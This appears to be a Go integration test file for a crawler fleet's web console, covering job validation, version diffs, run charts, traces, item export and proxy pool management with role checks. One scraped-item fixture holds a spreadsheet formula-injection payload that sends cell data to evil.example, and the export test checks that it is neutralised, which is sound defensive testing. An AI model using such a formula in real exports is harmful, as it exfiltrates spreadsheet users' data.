package web_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/stretchr/testify/require"

	"github.com/fleetwright/fleetwright/app/db"
	"github.com/fleetwright/fleetwright/modules/audit"
	"github.com/fleetwright/fleetwright/modules/auth"
	"github.com/fleetwright/fleetwright/modules/crawl"
	"github.com/fleetwright/fleetwright/modules/crawl/spec"
	"github.com/fleetwright/fleetwright/modules/fleet"
	"github.com/fleetwright/fleetwright/modules/panel/paneltest"
	"github.com/fleetwright/fleetwright/modules/wire"
)

// TestCrawlPages: an operator saves a job from the console (a bad one is
// refused with each field's line), sees its versions' diff, the runs, the
// items-per-cycle chart with its expected band and the alarm marked on it,
// the trace, and exports the items.
func TestCrawlPages(t *testing.T) {
	c := paneltest.New(t)
	ctx := context.Background()
	a := c.Tenant(t, "alpha")
	const pw = "correct horse battery"
	op, viewer := c.User(t, "op@fleet.test", auth.Operator, pw), c.User(t, "viewer@fleet.test", auth.Viewer, pw)
	c.Grant(t, op, a)
	c.Grant(t, viewer, a)
	cl, vcl := paneltest.Browserless(), paneltest.Browserless()
	c.Enrolled(t, cl, "op@fleet.test", pw)
	c.Enrolled(t, vcl, "viewer@fleet.test", pw)
	base := c.Server.URL + "/t/alpha/crawl"

	res, body := paneltest.Do(t, cl, "GET", base, nil)
	require.Equal(t, http.StatusOK, res.StatusCode)
	require.Contains(t, body, `data-testid="job-source"`)

	// Live validation and a refused save name the field and its line.
	bad := "version: 1\nname: shop\nrender: chrome\n"
	res, body = paneltest.Do(t, cl, "POST", base+"/validate", url.Values{"source": {bad}})
	require.Equal(t, http.StatusOK, res.StatusCode)
	require.Contains(t, body, `line 3: <span class="mono">render</span>: &#34;chrome&#34;: use http or browser`)
	res, body = paneltest.Do(t, cl, "POST", base+"/jobs", url.Values{"source": {bad}})
	require.Equal(t, http.StatusUnprocessableEntity, res.StatusCode)
	require.Contains(t, body, "use http or browser")

	src, err := os.ReadFile("../../../examples/crawl/catalogue-http.yaml")
	require.NoError(t, err)
	res, body = paneltest.Do(t, cl, "POST", base+"/validate", url.Values{"source": {string(src)}})
	require.Contains(t, body, `data-testid="validation-ok"`)
	res, _ = paneltest.Do(t, cl, "POST", base+"/jobs", url.Values{"source": {string(src)}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode)
	jobPath := res.Header.Get("Location")
	require.True(t, strings.HasPrefix(jobPath, "/t/alpha/crawl/jobs/"))
	v2 := strings.Replace(string(src), "pages: 200", "pages: 250", 1)
	res, _ = paneltest.Do(t, cl, "POST", base+"/jobs", url.Values{"source": {v2}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode)

	// A viewer may read but not save.
	res, _ = paneltest.Do(t, vcl, "POST", base+"/jobs", url.Values{"source": {v2}})
	require.Equal(t, http.StatusForbidden, res.StatusCode)

	// Three finished runs, the last one empty with a saved trace.
	st := crawl.NewStore(c.DB.App, spec.Options{})
	job, err := st.JobByName(ctx, a.ID, "catalogue-http")
	require.NoError(t, err)
	var runs []string
	for i, items := range []int{900, 905, 0} {
		var id string
		require.NoError(t, db.InTenant(ctx, c.DB.App, a.ID, func(tx pgx.Tx) error {
			return tx.QueryRow(ctx, `INSERT INTO crawl_runs (tenant_id, job_id, version, state, reason, queued_at, started_at, finished_at, pages, items)
				VALUES (app_tenant(), $1, 2, 'succeeded', 'done', $2, $2, $2, 45, $3) RETURNING id`, job.ID, time.Now().Add(time.Duration(i-3)*time.Minute), items).Scan(&id)
		}))
		runs = append(runs, id)
	}
	_, err = st.SaveTrace(ctx, a.ID, job.ID, runs[2], crawl.AlarmZeroResults, "run found no item",
		map[string]any{"url": "http://127.0.0.11:8091/catalog?page=1", "status": 200, "body": `<div class="card">new layout</div>`,
			"headers": map[string]string{"Content-Type": "text/html", "Set-Cookie": "[redacted]"}})
	require.NoError(t, err)
	_, _, err = st.SaveItems(ctx, a.ID, job.ID, runs[1], map[string]map[string]any{
		"u1": {"url": "http://x/item/1", "title": "Lamp, red", "price": 12.5}, "u2": {"url": "http://x/item/2", "title": "Mug", "price": 3.0},
		"u3": {"url": "http://x/item/3", "title": `=HYPERLINK("http://evil.example/?d="&A1,"open")`, "price": -1.0, "sku": "+1+1"}}, time.Now())
	require.NoError(t, err)

	res, body = paneltest.Do(t, vcl, "GET", c.Server.URL+jobPath, nil)
	require.Equal(t, http.StatusOK, res.StatusCode)
	require.Contains(t, body, `data-testid="items-chart"`)
	require.Contains(t, body, `data-testid="expected-band"`)
	require.Equal(t, 1, strings.Count(body, `data-testid="alarm-mark"`), "the empty run is marked")
	require.Contains(t, body, `data-testid="version-diff"`)
	require.Contains(t, body, `<div class="diff-del">-   pages: 200</div>`)
	require.Contains(t, body, `<div class="diff-add">+   pages: 250</div>`)
	require.NotContains(t, body, `data-testid="run-now"`, "a viewer gets no run button")

	traces, err := st.Traces(ctx, a.ID, job.ID, 1)
	require.NoError(t, err)
	res, body = paneltest.Do(t, vcl, "GET", c.Server.URL+"/t/alpha/crawl/traces/"+strconv.FormatInt(traces[0].ID, 10), nil)
	require.Equal(t, http.StatusOK, res.StatusCode)
	require.Contains(t, body, "&lt;div class=&#34;card&#34;&gt;new layout")
	require.Contains(t, body, "[redacted]")

	res, body = paneltest.Do(t, vcl, "GET", c.Server.URL+jobPath+"/items?q=lamp", nil)
	require.Equal(t, http.StatusOK, res.StatusCode)
	require.Contains(t, body, "Lamp, red")
	require.NotContains(t, body, "Mug")
	res, body = paneltest.Do(t, vcl, "GET", c.Server.URL+jobPath+"/items?format=csv", nil)
	require.Equal(t, http.StatusOK, res.StatusCode)
	require.Equal(t, "text/csv; charset=utf-8", res.Header.Get("Content-Type"))
	require.Contains(t, body, "key,first_seen,last_seen,changed_at,url,title,price,sku\n")
	require.Contains(t, body, `"Lamp, red",12.5`)
	// A scraped cell a spreadsheet would run as a formula is text; a
	// negative number stays a number.
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	require.NoError(t, err)
	var evil []string
	for _, r := range rows {
		if r[0] == "u3" {
			evil = r
		}
	}
	require.Equal(t, []string{"http://x/item/3", `'=HYPERLINK("http://evil.example/?d="&A1,"open")`, "-1", "'+1+1"}, evil[4:], "url, title, price, sku")
	res, body = paneltest.Do(t, vcl, "GET", c.Server.URL+jobPath+"/items?format=jsonl", nil)
	require.Equal(t, 3, strings.Count(body, "\n"))

	// Pause from the console: audited, the job shows it.
	res, _ = paneltest.Do(t, cl, "POST", c.Server.URL+jobPath+"/pause", url.Values{})
	require.Equal(t, http.StatusSeeOther, res.StatusCode)
	_, body = paneltest.Do(t, cl, "GET", base, nil)
	require.Contains(t, body, `<span class="badge warn">paused</span>`)
}

// TestCrawlProxyPages: an operator creates a proxy pool and adds a proxy
// from the console (its password sealed, never shown again), sees its
// health (benched with the time left), restores it; a pool's internal
// ranges are an admin's to set; a viewer changes nothing.
func TestCrawlProxyPages(t *testing.T) {
	c := paneltest.New(t)
	ctx := context.Background()
	a := c.Tenant(t, "alpha")
	const pw = "correct horse battery"
	const secret = "Pool-Proxy-Passw0rd"
	op, viewer := c.User(t, "op@fleet.test", auth.Operator, pw), c.User(t, "viewer@fleet.test", auth.Viewer, pw)
	c.User(t, "admin@fleet.test", auth.Admin, pw)
	c.Grant(t, op, a)
	c.Grant(t, viewer, a)
	cl, vcl, acl := paneltest.Browserless(), paneltest.Browserless(), paneltest.Browserless()
	c.Enrolled(t, cl, "op@fleet.test", pw)
	c.Enrolled(t, vcl, "viewer@fleet.test", pw)
	c.Enrolled(t, acl, "admin@fleet.test", pw)
	base := c.Server.URL + "/t/alpha/crawl/proxies"

	res, body := paneltest.Do(t, cl, "GET", c.Server.URL+"/t/alpha/crawl", nil)
	require.Equal(t, http.StatusOK, res.StatusCode)
	require.Contains(t, body, `data-testid="proxies-link"`)
	res, body = paneltest.Do(t, cl, "GET", base, nil)
	require.Equal(t, http.StatusOK, res.StatusCode)
	require.Contains(t, body, `data-testid="no-pools"`)

	res, _ = paneltest.Do(t, cl, "POST", base+"/pools", url.Values{"name": {"pool1"}, "rotation": {"round_robin"}, "bench_after": {"2"},
		"cooldown": {"1m"}, "remove_after": {"4"}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode)
	res, _ = paneltest.Do(t, cl, "POST", base, url.Values{"pool": {"pool1"}, "url": {"http://proxy.example:3128"}, "username": {"crawler"},
		"password": {secret}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode)
	res, _ = paneltest.Do(t, vcl, "POST", base, url.Values{"pool": {"pool1"}, "url": {"http://other.example:3128"}})
	require.Equal(t, http.StatusForbidden, res.StatusCode, "a viewer adds nothing")

	res, body = paneltest.Do(t, cl, "GET", base, nil)
	require.Equal(t, http.StatusOK, res.StatusCode)
	require.Contains(t, body, `data-testid="pool-pool1"`)
	require.Contains(t, body, "rotation round_robin")
	require.Contains(t, body, "http://proxy.example:3128")
	require.Contains(t, body, "password sealed")
	require.NotContains(t, body, secret, "the password is never shown again")
	require.NotContains(t, body, "/pools/pool1/allow", "the allow list form is an admin's")

	// The pool's internal ranges: an admin's (fleet.secrets), audited.
	res, _ = paneltest.Do(t, cl, "POST", base+"/pools/pool1/allow", url.Values{"allow": {"127.0.0.0/8"}})
	require.Equal(t, http.StatusForbidden, res.StatusCode)
	res, _ = paneltest.Do(t, acl, "POST", base+"/pools/pool1/allow", url.Values{"allow": {"10.8.0.0/16, 127.0.0.1"}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode)
	st := crawl.NewStore(c.DB.App, spec.Options{})
	pool, err := st.Pool(ctx, a.ID, "pool1")
	require.NoError(t, err)
	require.Equal(t, []string{"10.8.0.0/16", "127.0.0.1"}, pool.Allow)
	require.Len(t, pool.Proxies, 1)
	px := pool.Proxies[0]

	// Two failures in a row bench it: the page says so, with the time left.
	for range 2 {
		_, err := st.ProxyOutcome(ctx, a.ID, px.ID, false, "egress: upstream proxy http://proxy.example:3128: refused CONNECT: 502 Bad Gateway", time.Now())
		require.NoError(t, err)
	}
	_, body = paneltest.Do(t, cl, "GET", base, nil)
	require.Contains(t, body, `data-testid="proxy-state">benched`)
	require.Contains(t, body, "back in ")
	require.Contains(t, body, "502 Bad Gateway")
	res, _ = paneltest.Do(t, cl, "POST", base+"/"+px.ID+"/restore", nil)
	require.Equal(t, http.StatusSeeOther, res.StatusCode)
	_, body = paneltest.Do(t, cl, "GET", base, nil)
	require.Contains(t, body, `data-testid="proxy-state">active`)
	res, _ = paneltest.Do(t, cl, "POST", base+"/00000000-0000-0000-0000-000000000000/remove", nil)
	require.Equal(t, http.StatusNotFound, res.StatusCode)

	// The fleet page's egress column: the proxy an agent's crawler was
	// last handed, with its state.
	acct, err := c.Fleet.CreateAccount(ctx, a.ID, fleet.AccountInput{Key: "acct-1", BoardURL: "http://127.0.0.1:9", Client: "acme", Username: "u1",
		Password: "pw-long-enough-1", TOTPSecret: "JBSWY3DPEHPK3PXP", Workers: []wire.WorkerSpec{{Name: "crawler-1", Kind: "crawler"}}}, audit.Entry{Actor: "t"})
	require.NoError(t, err)
	agentID, _, err := c.Fleet.CreateAgent(ctx, a.ID, acct, "agent-acct-1", audit.Entry{Actor: "t"})
	require.NoError(t, err)
	_, body = paneltest.Do(t, cl, "GET", c.Server.URL+"/t/alpha/fleet", nil)
	require.Contains(t, body, `data-testid="egress"><span class="muted">own address</span>`)
	require.NoError(t, st.SetAgentEgress(ctx, a.ID, agentID, "pool1", &px, time.Now()))
	for range 2 {
		_, err := st.ProxyOutcome(ctx, a.ID, px.ID, false, "refused CONNECT: 502", time.Now())
		require.NoError(t, err)
	}
	_, body = paneltest.Do(t, cl, "GET", c.Server.URL+"/t/alpha/fleet", nil)
	require.Contains(t, body, "proxy http://proxy.example:3128 (pool pool1)")
	require.Contains(t, body, `<span class="badge bad">benched</span>`)

	var actions []string
	require.NoError(t, db.InTenant(ctx, c.DB.App, a.ID, func(tx pgx.Tx) error {
		rows, err := tx.Query(ctx, `SELECT action || ' ' || detail::text FROM audit_log WHERE action LIKE 'crawl.proxy%' OR action LIKE 'egress.proxy%' ORDER BY id`)
		if err != nil {
			return err
		}
		actions, err = pgx.CollectRows(rows, pgx.RowTo[string])
		return err
	}))
	require.Len(t, actions, 4, "pool, proxy, allow list, restore: %v", actions)
	require.NotContains(t, strings.Join(actions, " "), secret)
	require.NotContains(t, c.Logs.String(), secret, "the proxy password reached the log")
}
